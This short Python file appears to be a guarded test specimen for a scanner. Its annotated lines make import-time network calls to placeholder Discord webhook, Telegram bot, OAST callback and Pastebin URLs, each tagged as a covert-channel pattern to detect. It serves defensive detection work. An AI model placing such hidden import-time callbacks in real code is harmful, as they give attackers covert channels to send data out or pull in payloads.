raise SystemExit("specimen: not to be run")
import requests
HOOK = "https://discord.com/api/webhooks/000000000000000000/specimen-specimen-specimen"
requests.post(HOOK, json={"content": "hello"})  # match: covert-channel  # match: network-at-import
requests.get("https://specimen.oast.fun/a")  # match: covert-channel  # match: network-at-import
BOT = "https://api.telegram.org/bot0000000000:specimen-specimen-specimen/sendMessage"  # match: covert-channel
requests.get("https://pastebin.com/raw/specimen")  # match: covert-channel  # match: network-at-import
